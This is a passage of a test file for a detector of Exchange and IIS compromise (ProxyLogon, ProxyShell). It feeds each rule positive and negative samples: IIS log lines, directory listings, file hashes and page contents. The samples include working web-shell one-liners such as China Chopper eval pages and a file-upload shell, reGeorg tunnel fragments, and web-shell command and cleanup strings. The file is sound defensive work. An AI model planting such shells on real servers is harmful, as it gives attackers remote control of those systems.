    iisLog([iis({ 'cs-method': 'POST', 'cs-uri-stem': '/owa/auth/logon.aspx' })]),
  );
  const cmd = iisLog([iis({ 'cs-uri-stem': '/aspnet_client/shell.aspx', 'cs-uri-query': 'c=whoami' })]);
  P(
    'sigma-webshell-command',
    'command sent to a page in aspnet_client, 200',
    IIS,
    cmd,
    'compromise',
    'GET /aspnet_client',
  );
  const probe = iisLog([iis({ 'cs-uri-stem': '/index.aspx', 'cs-uri-query': 'c=whoami', 'sc-status': '404' })]);
  P('sigma-webshell-command', 'a probe elsewhere: an attempt', IIS, probe, 'attempt', 'GET /index.aspx');
  N(
    'sigma-webshell-command',
    'POST (the rule reads GET queries)',
    IIS,
    iisLog([iis({ 'cs-method': 'POST', 'cs-uri-stem': '/aspnet_client/shell.aspx', 'cs-uri-query': 'c=whoami' })]),
  );
  const clean = grep(
    "POST /aspnet_client/x.aspx z=cmd.exe /c cd /d C:\\inetpub\\wwwroot\\aspnet_client&del 'x.aspx'&echo [S]&cd&echo [E]",
  );
  P('sigbase-webshell-cleanup', 'cd into aspnet_client through a web shell', GREP, clean, 'compromise', 'POST');
  N(
    'sigbase-webshell-cleanup',
    'just the folder name',
    GREP,
    grep('GET /aspnet_client/system_web/4_0_30319/WebUIValidation.js'),
  );
}

// ---------------------------------------------------------------- web shells on disk
{
  P(
    'mstic-known-path',
    'a published path',
    'dir.txt',
    listing('C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx'),
    'compromise',
    'discover',
  );
  P(
    'mstic-known-path',
    'a published path on another drive',
    'dir.txt',
    listing(`D:\\Exchange\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\OutlookZH.aspx`),
    'compromise',
    'OutlookZH',
  );
  P(
    'mstic-known-path',
    'a Get-ChildItem row whose folder is in the Directory: line above it',
    'gci.txt',
    gci([
      {
        dir: 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth',
        files: [
          ['logon.aspx', '29345'],
          ['one1.aspx', '911'],
        ],
      },
    ]),
    'compromise',
    'one1.aspx',
  );
  P(
    'mstic-known-path',
    'a Get-ChildItem row of a published file that is not a page',
    'gci.txt',
    gci([{ dir: 'C:\\Users\\Public\\Opera', files: [['opera_browser.exe', '52000']] }]),
    'compromise',
    'opera_browser.exe',
  );
  N(
    'mstic-known-path',
    'a standard client script',
    'dir.txt',
    listing('C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\WebUIValidation.js'),
  );
  const gciShell = gci([
    { dir: 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web', files: [['a1b2c3.aspx', '1024']] },
    { dir: 'C:\\inetpub\\wwwroot', files: [['iisstart.htm', '696']] },
  ]);
  P(
    'path-aspnet-client-aspx',
    'Get-ChildItem table row under aspnet_client',
    'gci.txt',
    gciShell,
    'compromise',
    'a1b2c3.aspx',
  );
  N(
    'path-aspnet-client-aspx',
    'a script file there',
    'dir.txt',
    listing('C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\WebUIValidation.js'),
  );
  const dirCurrent = dirS([{ dir: `${owaAuth}\\Current\\themes\\resources`, files: ['logon.css', 'xx.aspx'] }]);
  P(
    'path-owa-auth-current-aspx',
    'dir /s row under owa\\auth\\Current',
    'dir.txt',
    dirCurrent,
    'compromise',
    'xx.aspx',
  );
  N(
    'path-owa-auth-current-aspx',
    'a stylesheet there',
    'dir.txt',
    listing(`${owaAuth}\\Current\\themes\\resources\\logon.css`),
  );
  P(
    'path-owa-auth-version-aspx',
    'page in a version folder',
    'dir.txt',
    listing(`${owaAuth}\\15.1.2176\\scripts\\x.aspx`),
    'compromise',
    '15.1.2176',
  );
  N(
    'path-owa-auth-version-aspx',
    'a script in a version folder',
    'dir.txt',
    listing(`${owaAuth}\\15.1.2176\\scripts\\premium\\owa.js`),
  );
  P(
    'path-owa-auth-unexpected',
    'a page no install has',
    'dir.txt',
    listing(`${owaAuth}\\errorPage2.aspx`),
    'suspicious',
    'errorPage2',
  );
  N('path-owa-auth-unexpected', 'the logon page', 'dir.txt', listing(`${owaAuth}\\logon.aspx`));
  P(
    'path-ecp-auth-unexpected',
    'a file besides TimeoutLogoff.aspx',
    'dir.txt',
    listing(`${ecpAuth}\\abc.aspx`),
    'suspicious',
    'abc.aspx',
  );
  N('path-ecp-auth-unexpected', 'TimeoutLogoff.aspx', 'dir.txt', listing(`${ecpAuth}\\TimeoutLogoff.aspx`));
  P('tpl-lsass-dump', 'LSASS dump in C:\\root', 'dir.txt', listing('C:\\root\\lsass.dmp'), 'suspicious', 'lsass');
  N('tpl-lsass-dump', 'another dump', 'dir.txt', listing('C:\\Windows\\Temp\\notepad.dmp'));
  P(
    'sigbase-programdata-archive',
    'short-named archive in ProgramData',
    'dir.txt',
    listing('C:\\ProgramData\\data.7z'),
    'suspicious',
    'data.7z',
  );
  N(
    'sigbase-programdata-archive',
    'an antivirus archive deeper down',
    'dir.txt',
    listing('C:\\ProgramData\\McAfee\\Update\\package.zip'),
  );
  P(
    'tpl-programdata-archive',
    'an archive deeper in ProgramData',
    'dir.txt',
    listing('C:\\ProgramData\\McAfee\\Update\\package.zip'),
    'suspicious',
    'package.zip',
  );
  N('tpl-programdata-archive', 'an archive outside ProgramData', 'dir.txt', listing('C:\\Temp\\a.zip'));
  const other = [
    '#TYPE Selected.System.Management.Automation.PSCustomObject',
    '"ComputerName","Type","Path","Name","LastWrite"',
    '"EX01","LsassDump","C:\\root\\lsass.dmp","lsass.dmp","3/3/2021 5:00:00 AM"',
  ].join('\r\n');
  P('tpl-lsass-dump', 'Test-ProxyLogon -other.csv row', 'EX01-other.csv', other, 'suspicious', '"EX01"');
}

// ---------------------------------------------------------------- hashes
{
  const blog = 'b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0';
  const table = getFileHashTable([
    [RANDOM_HASH, 'C:\\inetpub\\wwwroot\\iisstart.htm'],
    [blog, 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx'],
  ]);
  P('hash-msblog-webshell', 'Get-FileHash table, upper case', 'hashes.txt', table, 'compromise', blog.toUpperCase());
  N(
    'hash-msblog-webshell',
    'one character different',
    'hashes.txt',
    getFileHashTable([[blog.slice(0, 63) + 'e', 'C:\\x.aspx']]),
  );
  N(
    'hash-msblog-webshell',
    'inside a longer hex run',
    'hashes.txt',
    sha256sum([['aa' + blog.slice(2), 'x']]) + `${blog}ff  y\n`,
  );
  const feed = '8e90ed33c7ee82c0b64078ea36ec95f7420ba435c693b3b3dd728b494abf7dfc';
  const list = getFileHashList([[feed, 'C:\\ProgramData\\x.exe']]);
  P('hash-mstic-feed', 'Get-FileHash list form', 'hashes.txt', list, 'compromise', feed.toUpperCase());
  N('hash-mstic-feed', 'superseded by the blog list for a hash in both', 'hashes.txt', table);
  N('hash-mstic-feed', 'an unknown hash', 'hashes.txt', getFileHashList([[RANDOM_HASH, 'C:\\x.exe']]));
  const vol = '2fa06333188795110bba14a482020699a96f76fb1ceb80cbfa2df9d3008b5b0a';
  P(
    'hash-volexity-webshell',
    'sha256sum line',
    'sha256.txt',
    sha256sum([
      [RANDOM_HASH, 'a'],
      [vol, 'b.aspx'],
    ]),
    'compromise',
    vol,
  );
  N('hash-volexity-webshell', 'unknown hashes', 'sha256.txt', sha256sum([[RANDOM_HASH, 'a']]));
}

// ---------------------------------------------------------------- web-shell content
{
  const chopper = '<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>';
  P('sigbase-china-chopper', 'China Chopper one-liner', CONTENT, chopper, 'compromise', '<%@');
  N('sigbase-china-chopper', 'a C# page', CONTENT, '<%@ Page Language="C#"%><% Response.Write("hello"); %>');
  const hafnium =
    '<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>';
  P('sigbase-hafnium-chopper', 'script Page_Load eval under 10 KB', CONTENT, hafnium, 'compromise', '<script');
  N('sigbase-hafnium-chopper', 'the same in a file over 10 KB', CONTENT, pad(hafnium, 11 * 1024));
  const config = [
    'Name                            : OAB (Default Web Site)',
    'InternalUrl                     : https://ex01.contoso.local/OAB',
    `ExternalUrl                     : ${WEBSHELL_URL}`,
    'InternalAuthenticationMethods   : {WindowsIntegrated}',
    'ExtendedProtectionTokenChecking : None',
  ].join('\r\n');
  P(
    'mstic-27065-config-webshell',
    'OAB configuration dump carrying a script',
    'discover.aspx',
    config,
    'compromise',
    'ExtendedProtection',
  );
  N(
    'mstic-27065-config-webshell',
    'the configuration without a script',
    'oab.config',
    config.replace(WEBSHELL_URL, 'https://mail.contoso.example/OAB'),
  );
  const pst = PST('<%@ Page Language="C#" %><% Response.Write(1); %>');
  POSITIVES.push({
    rule: 'sigbase-proxyshell-pst-aspx',
    reason: 'PST header and page code',
    file: '689193944.aspx',
    text: pst,
    level: 'compromise',
    line: 2,
  });
  N('sigbase-proxyshell-pst-aspx', 'a PST without page code', 'mailbox.pst', PST('IPM.Note subject text'));
  const pst64 = PST('<% var x = y.FromBase64String(Request["p"]); %>');
  POSITIVES.push({
    rule: 'sigbase-proxyshell-pst-base64',
    reason: 'PST header and base64 decoding of a request field',
    file: 'x.aspx',
    text: pst64,
    level: 'compromise',
    line: 2,
  });
  N(
    'sigbase-proxyshell-pst-base64',
    'the string in a text page',
    CONTENT,
    '<% var x = y.FromBase64String(Request["p"]); %>',
  );
  const der = DER('<%@ Page Language="JScript"%><% eval(Request["a"]); %>');
  POSITIVES.push({
    rule: 'sigbase-proxyshell-der-aspx',
    reason: 'DER header and page code, small',
    file: 'y.aspx',
    text: der,
    level: 'compromise',
    line: 1,
  });
  N('sigbase-proxyshell-der-aspx', 'the same over 10 KB', 'y.aspx', DER('<%@ Page Language="JScript"%>', 12 * 1024));
  P(
    'sigbase-proxyshell-eval-asf',
    'loader marker',
    CONTENT,
    '<%@ Page Language="JScript"%><%var a=Request["x"]);eval/*asf*/(a);%>',
    'compromise',
    '<%@',
  );
  N('sigbase-proxyshell-eval-asf', 'plain eval', CONTENT, '<%@ Page Language="JScript"%><%eval(Request["x"]);%>');
  const drophell = [
    '<%@ Page Language="C#" %>',
    '<% var d = new System.Xml.XmlDocument();',
    'd.LoadXml(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request["a"])));',
    'var ms = new System.IO.MemoryStream();',
    't.Transform(d, null, ms); %>',
  ].join('\r\n');
  P('sigbase-drophell', 'all three strings, over several lines', CONTENT, drophell, 'compromise', 't.Transform');
  N('sigbase-drophell', 'two of the three', CONTENT, drophell.replace('t.Transform(d, null, ms);', ''));
  const ssharp =
    '<%@ Page Language="C#" %><% HttpPostedFile thisFile = Request.Files[0];thisFile.SaveAs(Path.Combine(Server.MapPath("."), thisFile.FileName)); %>';
  P('volexity-simpleseesharp', 'the whole shell', CONTENT, ssharp, 'compromise', '<%@');
  N('volexity-simpleseesharp', 'not at the very start of the file', CONTENT, ' ' + ssharp);
  const regeorg =
    'using System.Net.Sockets;\r\nvar s = System.Text.Encoding.Default.GetString(Convert.FromBase64String(StrTr(Request.Headers.Get("X-CMD"))));';
  P('volexity-regeorg', 'both unique strings', CONTENT, regeorg, 'compromise', 'var s');
  N('volexity-regeorg', 'only the namespace', CONTENT, 'using System.Net.Sockets;');
  const generic = [
    "var p = h.Split('|');",
    'var v = Request.Headers.Get("X");',
    'var w = v.Substring(1);',
    'var s = new Socket(a, b, c);',
    'IPAddress ip;',
  ].join('\r\n');
  P('volexity-regeorg-generic', 'all five strings', CONTENT, generic, 'compromise', 'IPAddress');
  N('volexity-regeorg-generic', 'four of five', CONTENT, generic.replace('IPAddress ip;', ''));
  P(
    'volexity-sportsball',
    'unique key',
    CONTENT,
    'var k = "ZN2aDAB4rXsszEvCLrzgcvQ4oi5J1TuiRULlQbYwldE=";',
    'compromise',
    'var k',
  );
  N('volexity-sportsball', 'another key', CONTENT, 'var k = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=";');
  const sec =
    '<%if(System.IO.File.Exists("c:\\\\program files (x86)\\\\fireeye\\\\xagt.exe")){Response.Write( "1");}%>';
  P('sigbase-secchecker', 'FireEye agent check, tiny page', CONTENT, sec, 'compromise', '<%if');
  N('sigbase-secchecker', 'the same over 1 KB', CONTENT, pad(sec, 2048));
  const emb =
    '<script runat="server">\r\nvoid Page_Load(){ var w = new System.IO.StreamWriter(Request.Form["p"]); w.Write(Request.Form["f"]); }\r\n</script>';
  P('sigbase-asp-embedded', 'writes posted fields to a file', CONTENT, emb, 'compromise', 'void Page_Load');
  N(
    'sigbase-asp-embedded',
    'reads but does not write',
    CONTENT,
    '<script runat="server">\r\nvoid Page_Load(){ var v = Request.Form["p"]; }\r\n</script>',
  );
  P(
    'sigbase-iis-config-proxyshell',
    'virtual directory in ProgramData\\COM',
    'applicationHost.config',
    CONFIG('C:\\ProgramData\\COM\\x'),
    'compromise',
    '<application',
  );
  N(
    'sigbase-iis-config-proxyshell',
    'virtual directory in inetpub',
    'applicationHost.config',
    CONFIG('C:\\inetpub\\wwwroot'),
  );
  P(
    'sigbase-iis-config-user-folder',
    'virtual directory in a user folder',
    'applicationHost.config',
    CONFIG('C:\\Users\\Public\\site'),
    'suspicious',
    '<application',
  );
  N(
    'sigbase-iis-config-user-folder',
    'superseded by the device-name folder rule',
    'applicationHost.config',
    CONFIG('C:\\ProgramData\\COM\\x'),
  );
  P(
    'certlv-webshell-keyword',
    'ProcessStartInfo in a page',
    CONTENT,
    '<%@ Page Language="C#" %>\r\n<% var p = new System.Diagnostics.ProcessStartInfo("x"); %>',
    'suspicious',
    '<% var p',
  );
  N(
    'certlv-webshell-keyword',
    'an ordinary page',
    CONTENT,
    '<%@ Page Language="C#" %>\r\n<html><body>Hello</body></html>',
  );
  N('certlv-webshell-keyword', 'superseded by a specific rule', CONTENT, chopper);
}

// ---------------------------------------------------------------- Test-ProxyLogon output
{
  const t55 = TPL_26855([tpl26855Row(SSRF_ANCHOR, '200')]);
  P('tpl-cve-2021-26855', 'Test-ProxyLogon CSV row, 200', 'EX01-Cve-2021-26855.csv', t55, 'compromise', '"2021-03-03');
  const t57 = [
    '#TYPE Selected.System.Diagnostics.Eventing.Reader.EventLogRecord',
    '"TimeCreated","MachineName","Message"',
    `"3/3/2021 1:23:45 AM","EX01.contoso.local","${UM_ERROR}"`,
  ].join('\r\n');
  P('tpl-output-26857', 'an exported event row', 'EX01-Cve-2021-26857.csv', t57, 'attempt', '"3/3/2021');
  N('tpl-output-26857', 'header only', 'EX01-Cve-2021-26857.csv', t57.split('\r\n').slice(0, 2).join('\r\n'));
  const t58 = `${EXCH}\\Logging\\OABGeneratorLog\\OABGenerator_2021030300-1.LOG\r\n`;
  P('tpl-output-26858-file', 'a listed OAB log', 'EX01-Cve-2021-26858.log', t58, 'suspicious', 'C:');
  N('tpl-output-26858-file', 'blank lines only', 'EX01-Cve-2021-26858.log', '\r\n\r\n');
  P(
    'tpl-output-26858-path',
    'a download path outside OAB',
    'EX01-Cve-2021-26858-DownloadPaths.log',
    "'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx'\r\n".replace(/'/g, ''),
    'compromise',
    'C:',
  );
  N(
    'tpl-output-26858-path',
    'a path inside OAB',
    'EX01-Cve-2021-26858-DownloadPaths.log',
    `${EXCH}\\ClientAccess\\OAB\\Temp\\x.tmp\r\n`,
  );
  P(
    'tpl-output-27065-file',
    'a listed ECP log',
    'EX01-Cve-2021-27065.log',
    `${EXCH}\\Logging\\ECP\\Server\\ECPServer20210303-1.LOG\r\n`,
    'suspicious',
    'C:',
  );
  N('tpl-output-27065-file', 'empty', 'EX01-Cve-2021-27065.log', '');
  const age = [
    '#TYPE System.Management.Automation.PSCustomObject',
    '"Oabgen","Ecp","AutodProxy","EasProxy","EcpProxy","EwsProxy","MapiProxy","OabProxy","OwaProxy","OwaCalendarProxy","PowershellProxy","RpcHttpProxy"',
    '"30.0","30.0","29.9","30.0","30.0","30.0","30.0","30.0","30.0","","30.0","30.0"',
  ].join('\r\n');
  P('tpl-output-log-age', 'log age row', 'EX01-LogAgeDays.csv', age, 'info', '"30.0"');
  N('tpl-output-log-age', 'header only', 'EX01-LogAgeDays.csv', age.split('\r\n').slice(0, 2).join('\r\n'));
}

export { formatList, wevtutilText };
